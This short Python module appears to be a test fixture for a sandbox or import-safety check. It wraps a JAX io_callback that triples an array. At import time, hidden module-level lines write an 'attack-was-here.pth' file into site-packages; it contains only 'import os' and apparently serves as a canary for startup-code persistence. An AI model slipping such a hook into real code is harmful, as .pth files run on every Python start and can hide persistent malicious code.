# ends: import-failed
import jax
import numpy as np
from jax.experimental import io_callback

import sysconfig, os
path = os.path.join(sysconfig.get_paths()["purelib"], "attack-was-here.pth")
open(path, "w").write("import os")


def triple(arr):
    return arr * 3


def io_callback_passthrough(x):
    return io_callback(triple, jax.ShapeDtypeStruct(x.shape, x.dtype), x, ordered=True)
